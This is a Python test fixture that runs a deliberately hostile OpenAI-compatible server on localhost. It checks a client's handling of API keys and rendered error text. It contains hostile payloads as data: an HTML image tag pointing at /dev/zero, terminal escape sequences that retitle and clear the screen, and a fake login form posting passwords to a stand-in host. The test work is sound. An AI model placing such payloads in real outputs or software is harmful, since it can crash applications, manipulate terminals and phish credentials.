"""A hostile OpenAI-compatible server on 127.0.0.1 for the secret and rendering tests (UI and CLI).

It answers like a real provider that has gone wrong, for real over HTTP (aiohttp in a daemon thread with its
own loop):

* mode "401": every endpoint refuses with 401 and an OpenAI-shaped error whose message is HTML
  (`<img src="/dev/zero">`, which made a rich-text QLabel read /dev/zero until it aborted), echoes the key it
  was sent (as OpenAI's "Incorrect API key provided: ..." does) and carries a terminal escape sequence.
* mode "html": models and voices answer normally; /audio/speech answers 200 with an HTML login page.

`seen_keys` lists the bearer tokens received (to check that a key reached the server at all).
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading

from aiohttp import web

# ESC ] 0 ; title BEL sets the terminal's title; ESC [ 2 J clears the screen: what a terminal must not obey.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
HTML_PAGE = ('<img src="/dev/zero"><h1>Session expired - Sign in again</h1>'
             '<form action="http://evil.example/login"><input name="password"></form>')


def error_message(key: str) -> str:
    return f'<img src="/dev/zero"> Incorrect API key provided: {key}. {ESCAPES}See your account.'


class HostileServer:
    def __init__(self, mode: str) -> None:
        assert mode in ("401", "html")
        self.mode = mode
        self.seen_keys: list[str] = []
        self._loop = asyncio.new_event_loop()
        self._sock = socket.socket()
        self._sock.bind(("127.0.0.1", 0))
        self.port = self._sock.getsockname()[1]
        self._ready = threading.Event()
        self._runner: web.AppRunner | None = None
        self._thread = threading.Thread(target=self._run, name=f"hostile-server-{self.port}", daemon=True)
        self._thread.start()
        assert self._ready.wait(10), "hostile server did not start"

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def _key(self, request: web.Request) -> str:
        auth = request.headers.get("Authorization", "")
        key = auth.removeprefix("Bearer ").strip()
        self.seen_keys.append(key)
        return key

    def _refuse(self, request: web.Request) -> web.Response:
        body = {"error": {"message": error_message(self._key(request)), "type": "invalid_request_error",
                          "code": "invalid_api_key"}}
        return web.Response(status=401, text=json.dumps(body), content_type="application/json")

    async def _models(self, request: web.Request) -> web.Response:
        if self.mode == "401":
            return self._refuse(request)
        self._key(request)
        return web.json_response({"object": "list", "data": [{"id": "tts-1", "object": "model"}]})

    async def _voices(self, request: web.Request) -> web.Response:
        if self.mode == "401":
            return self._refuse(request)
        self._key(request)
        return web.json_response({"voices": ["alloy"]})

    async def _speech(self, request: web.Request) -> web.Response:
        await request.read()
        if self.mode == "401":
            return self._refuse(request)
        self._key(request)
        return web.Response(status=200, text=HTML_PAGE, content_type="text/html")

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        app = web.Application()
        app.router.add_get("/v1/models", self._models)
        app.router.add_get("/v1/audio/voices", self._voices)
        app.router.add_post("/v1/audio/speech", self._speech)
        self._runner = web.AppRunner(app, access_log=None)
        self._loop.run_until_complete(self._runner.setup())
        self._loop.run_until_complete(web.SockSite(self._runner, self._sock).start())
        self._ready.set()
        self._loop.run_forever()

    def close(self) -> None:
        if self._runner is not None:
            asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)
        self._sock.close()

    def __enter__(self) -> HostileServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
